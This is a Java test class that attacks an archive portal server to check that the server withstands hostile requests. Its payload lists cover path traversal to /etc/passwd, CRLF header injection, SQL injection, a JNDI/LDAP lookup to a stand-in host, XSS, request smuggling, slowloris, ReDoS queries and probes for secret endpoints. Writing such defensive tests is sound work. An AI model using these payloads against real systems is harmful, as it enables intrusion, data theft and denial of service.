package org.osefrance.archive.portal.server;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatNoException;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.osefrance.archive.portal.command.Commands;
import org.osefrance.archive.portal.command.Invocation;
import org.osefrance.archive.portal.command.ListeningTerminal;
import org.osefrance.archive.portal.demonstration.InventedScans;
import org.osefrance.archive.portal.runtime.Archive;
import org.osefrance.archive.portal.runtime.OpenArchive;
import org.osefrance.archive.schemas.access.Viewer;
import org.osefrance.archive.schemas.identifier.RecordId;

/** Somebody who means harm, at every address of a running archive. Each test says what they are answered. */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileVisitorTest {

    private static final Viewer MACHINERY = new Viewer.Machinery("test");
    private static final String INTO = "TILLEULS/papiers";
    private static final String LETTERS = "0123456789abcdefghjkmnpqrstvwxyz";
    private static final int SLOW_CLIENTS = 100;

    /** Pages that are the same whatever stands in their address: they do not tell whether it leads anywhere. */
    private static final Set<String> ALIKE = Set.of("/visit/{token}");

    /** What stands in the place of an identifier. */
    private static final List<String> HOSTILE = List.of(
            "..",
            "../../../../etc/passwd",
            "..%2f..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
            "%e0%80%ae%e0%80%ae%e0%80%afetc",
            "..%5c..%5cwindows%5cwin.ini",
            "..;/..;/etc/passwd",
            "....//....//etc/passwd",
            "%2fetc%2fpasswd",
            "file:%2f%2f%2fetc%2fpasswd",
            "%00",
            "item%00.html",
            "%0d%0aSet-Cookie:%20canary=1",
            "%0aLocation:%20https://elsewhere.example",
            "'%20or%20'1'='1",
            "1;select%20pg_sleep(9)",
            "$%7Bjndi:ldap:%2f%2felsewhere.example%7D",
            "*%7BT(java.lang.Runtime)%7D",
            "%3Cscript%3Ealert(1)%3C%2fscript%3E",
            "-1",
            "99999999999999999999",
            "%F0%9F%92%A5",
            "a".repeat(4_000));

    private Archive archive;
    private ArchiveServer server;
    private String item;
    private String page;

    @BeforeAll
    void start(@TempDir Path folder) throws IOException {
        archive = OpenArchive.in(folder.resolve("home"));
        server = ArchiveServer.start(archive, OpenArchive.settings(folder.resolve("home")));
        String scans = InventedScans.in(folder.resolve("scans")).resolve("a").toString();
        run(folder, "ingest", scans, "--into", INTO, "--dated", "1941", "--category", "GENERAL", "--wait");
        run(folder, "describe", "TILLEULS", "--dated", "1941", "--category", "GENERAL", "--reason", "invented");
        run(folder, "release", "TILLEULS", "--scope", "text", "--persons", "none", "--reason", "invented");
        RecordId letters = archive.catalog()
                .findUnitByReference(MACHINERY, INTO)
                .orElseThrow()
                .description()
                .id();
        RecordId letter = archive.catalog()
                .listChildren(Viewer.anyone(), letters, "", 1)
                .getFirst()
                .description()
                .id();
        item = letter.value();
        page = archive.catalog()
                .listPages(Viewer.anyone(), letter)
                .getFirst()
                .page()
                .id()
                .value();
    }

    @AfterAll
    void stop() {
        server.close();
    }

    static Stream<String> whatStandsForAnIdentifier() {
        return HOSTILE.stream();
    }

    @ParameterizedTest
    @MethodSource("whatStandsForAnIdentifier")
    void nothing_but_an_identifier_leads_anywhere(String hostile) throws InterruptedException {
        List<String> routes = Routes.of(server).stream()
                .filter(route -> route.contains("{") || route.endsWith("*"))
                .toList();
        Together.ask(routes, route -> {
            String address = route.replaceAll("\\{[^}]*\\}", Matcher.quoteReplacement(hostile))
                    .replace("*", hostile);
            for (String method : List.of("GET", "HEAD", "POST")) {
                String answer = Wire.ask(server.port(), method, address);
                assertThat(status(answer))
                        .as("%s %s\n%s", method, address, answer)
                        .isIn(answered(route));
                assertThat(answer)
                        .as(address)
                        .doesNotContain("root:", "[fonts]", "<script>alert", "\tat ", "org.springframework")
                        .doesNotContainPattern("(?im)^(Set-Cookie: canary|Location: https?://elsewhere)");
            }
        });
    }

    private static Set<Integer> answered(String route) {
        Set<Integer> statuses = new TreeSet<>(Set.of(302, 400, 403, 404, 405));
        if (ALIKE.contains(route)) {
            statuses.add(200);
        }
        return statuses;
    }

    /** A random identifier has 80 bits and a check character: its neighbours are nobody. */
    @Test
    void the_neighbours_of_an_identifier_are_nobody() throws IOException, InterruptedException {
        List<String> neighbours = new ArrayList<>(List.of(item + "0", item.substring(1)));
        for (int place = 0; place < item.length(); place++) {
            char next = LETTERS.charAt((LETTERS.indexOf(item.charAt(place)) + 1) % LETTERS.length());
            neighbours.add(item.substring(0, place) + next + item.substring(place + 1));
        }
        try (Crawl crawl = new Crawl(server.port())) {
            assertThat(crawl.ask("GET", "/records/" + item).status()).isEqualTo(200);
            String unknown = RecordId.random().value();
            String nobody = crawl.ask("GET", "/records/" + unknown).lasting().replace(unknown, "ID");
            for (String neighbour : neighbours) {
                assertThat(crawl.ask("GET", "/records/" + neighbour).lasting().replace(neighbour, "ID"))
                        .as(neighbour)
                        .startsWith("404")
                        .isEqualTo(nobody);
            }
        }
    }

    static Stream<String> queriesThatAreBombs() {
        return Stream.of(
                "a ".repeat(3_500),
                "\"a b\" ".repeat(1_000),
                "(".repeat(3_000) + "a" + ")".repeat(3_000),
                "-a ".repeat(2_000),
                "\"" + "document ".repeat(700) + "\"",
                "*",
                "*a*b*c*d*e*",
                "a* b* c* d* e* ?* ??*",
                "/(a+)+$/",
                "/.*.*.*.*.*x/",
                "a~9 b~9 c~9",
                "[* TO *]",
                "words:[a TO z]^1000000",
                "\"document invente\"~1000000",
                "\u05d0".repeat(2_000),
                "e\u0301".repeat(2_000),
                "\ud83d\udca5".repeat(1_500),
                "\u202e\u200f\u0000\ufeff",
                "NOT NOT NOT NOT a AND OR AND (",
                "\"".repeat(5_001));
    }

    @ParameterizedTest
    @MethodSource("queriesThatAreBombs")
    @Timeout(5)
    void no_query_keeps_the_archive_busy(String query) throws IOException, InterruptedException {
        String encoded = java.net.URLEncoder.encode(query, java.nio.charset.StandardCharsets.UTF_8);
        for (String address :
                List.of("/search?q=", "/iiif/search/2/" + item + "?q=", "/records/" + item + "/pages/1?q=")) {
            String answer = Wire.ask(server.port(), "GET", address + encoded);
            assertThat(status(answer)).as(address).isIn(200, 400, 413, 414, 431);
        }
    }

    /** A prefix is no question: names cannot be spelled out letter by letter. */
    @Test
    void a_beginning_of_a_word_finds_nothing() throws IOException {
        String none = Wire.ask(server.port(), "GET", "/search?q=Nirgendwo");
        assertThat(body(Wire.ask(server.port(), "GET", "/search?q=document"))).contains("/records/" + item);
        for (String beginning : List.of("docu*", "docu", "doc?ment", "docu%25", "/doc.*/", "documemt~")) {
            String answer = Wire.ask(server.port(), "GET", "/search?q=" + beginning);
            assertThat(answer).as(beginning).doesNotContain("/records/" + item);
            assertThat(status(answer)).isEqualTo(status(none));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "full/99999,/0/default.jpg",
                "full/^99999,99999/0/default.jpg",
                "full/^2147483647,2147483647/0/default.png",
                "full/^pct:100000/0/default.jpg",
                "0,0,2147483647,2147483647/^9999999999,/0/default.jpg",
                "full/max/0.000000000000000000000000000001/default.png",
                "pct:0,0,1e308,1e308/max/0/default.jpg",
                "-5,-5,10,10/max/0/default.jpg",
                "full/0,0/0/default.jpg",
                "full/NaN,NaN/0/default.jpg"
            })
    @Timeout(5)
    void a_giant_image_is_not_made(String parameters) throws IOException {
        for (String version : List.of("3", "2")) {
            String answer = Wire.ask(server.port(), "GET", "/iiif/image/" + version + "/" + page + "/" + parameters);
            assertThat(status(answer)).as("%s", parameters).isIn(200, 400, 404, 501);
            assertThat(answer.length()).as(parameters).isLessThan(20_000_000);
        }
    }

    static Stream<String> requestsThatMeanTwoThings() {
        String second = "GET /about HTTP/1.1\r\nHost: localhost\r\n\r\n";
        return Stream.of(
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nContent-Length: "
                                + second.length() + "\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: xchunked\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
                        "POST /search HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999999999999\r\n\r\n",
                        "GET /search HTTP/1.1\r\nHost: localhost\r\nHost: elsewhere.example\r\n\r\n",
                        "GET /search HTTP/1.1\r\n\r\n",
                        "GET /search\r\nHost: localhost\r\n\r\n",
                        "GET /search HTTP/1.1\r\n Host: localhost\r\n\r\n",
                        "GET http://elsewhere.example/about HTTP/1.1\r\nHost: localhost\r\n\r\n")
                .map(first -> first + second);
    }

    /** Whatever stands between the archive and the web must not be made to take the rest of one request for another's. */
    @ParameterizedTest
    @MethodSource("requestsThatMeanTwoThings")
    @Timeout(60)
    void a_request_that_means_two_things_ends_the_connection(String requests) throws IOException {
        try (Wire wire = new Wire(server.port())) {
            String answer = wire.send(requests).rest();
            assertThat(answer.split("HTTP/1\\.1 ", -1).length - 1).as(answer).isLessThanOrEqualTo(1);
            assertThat(answer).doesNotContain("HTTP/1.1 200");
        }
    }

    /** Each sends a letter of its request now and then, and never the whole. */
    @Test
    @Timeout(60)
    void a_hundred_slow_clients_keep_nobody_waiting() throws IOException, InterruptedException {
        List<Wire> slow = new ArrayList<>();
        try (HttpClient client = HttpClient.newHttpClient()) {
            for (int number = 0; number < SLOW_CLIENTS; number++) {
                slow.add(new Wire(server.port()).send("POST /search?q=a HTTP/1.1\r\nHost: localhost\r\nX-Sl"));
            }
            for (int round = 0; round < 3; round++) {
                for (Wire wire : slow) {
                    wire.send("o");
                }
                HttpResponse<String> answer = client.send(
                        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + server.port() + "/search?q=document"))
                                .timeout(Duration.ofSeconds(10))
                                .build(),
                        HttpResponse.BodyHandlers.ofString());
                assertThat(answer.statusCode()).isEqualTo(200);
            }
        } finally {
            for (Wire wire : slow) {
                wire.close();
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/actuator",
                "/actuator/env",
                "/actuator/heapdump",
                "/h2-console",
                "/swagger-ui.html",
                "/v3/api-docs",
                "/manager/html",
                "/jolokia",
                "/env",
                "/metrics",
                "/.git/config",
                "/.env",
                "/WEB-INF/web.xml",
                "/META-INF/MANIFEST.MF",
                "/application.yaml",
                "/templates/layout.html",
                "/messages/portal_fr.properties",
                "/db/migration/V1__records.sql"
            })
    void what_runs_the_archive_is_nowhere(String address) throws IOException {
        String answer = Wire.ask(server.port(), "GET", address);
        assertThat(status(answer)).as(answer).isEqualTo(404);
    }

    @ParameterizedTest
    @ValueSource(strings = {"TRACE", "TRACK", "CONNECT", "PROPFIND", "DELETE", "PUT", "PATCH"})
    void no_other_way_of_asking_does_anything(String method) throws IOException {
        String answer = Wire.ask(server.port(), method, "/records/" + item, "X-Secret: canary");
        assertThat(status(answer)).isBetween(400, 501);
        assertThat(answer).doesNotContain("canary");
        assertThat(status(Wire.ask(server.port(), "GET", "/records/" + item))).isEqualTo(200);
    }

    /** Every address that leads on, with every parameter that could say where. */
    @Test
    void nobody_is_led_elsewhere() throws IOException {
        for (String address :
                Set.of("/", "/search", "/contact", "/staff", "/staff/sign-in", "/staff/purpose", "/records/" + item)) {
            for (String parameter :
                    List.of("next", "url", "return", "returnUrl", "redirect", "page", "to", "lang", "continue")) {
                for (String place :
                        List.of("https://elsewhere.example", "//elsewhere.example", "/%5Celsewhere.example")) {
                    String answer = Wire.ask(server.port(), "GET", address + "?" + parameter + "=" + place);
                    assertThat(answer)
                            .doesNotContainPattern("(?im)^(Location|Refresh): *(https?:)?[/\\\\]{2}elsewhere");
                    assertThat(answer).doesNotContainPattern("href=\"(https?:)?//elsewhere");
                }
            }
        }
        assertThat(Wire.ask(server.port(), "GET", "/staff", "Host: elsewhere.example"))
                .doesNotContain("elsewhere.example");
    }

    @Test
    void the_archive_stands_after_all_of_it() {
        assertThatNoException()
                .isThrownBy(() -> assertThat(status(Wire.ask(server.port(), "GET", "/health")))
                        .isEqualTo(200));
    }

    private void run(Path folder, String... words) {
        ListeningTerminal terminal = new ListeningTerminal();
        assertThat(new Commands(terminal).execute(new Invocation(List.of(words), folder), () -> archive))
                .as("%s", terminal.told())
                .isZero();
    }

    private static int status(String answer) {
        assertThat(answer).startsWith("HTTP/1.1 ");
        return Integer.parseInt(answer.substring(9, 12));
    }

    private static String body(String answer) {
        return answer.substring(answer.indexOf("\r\n\r\n"));
    }
}
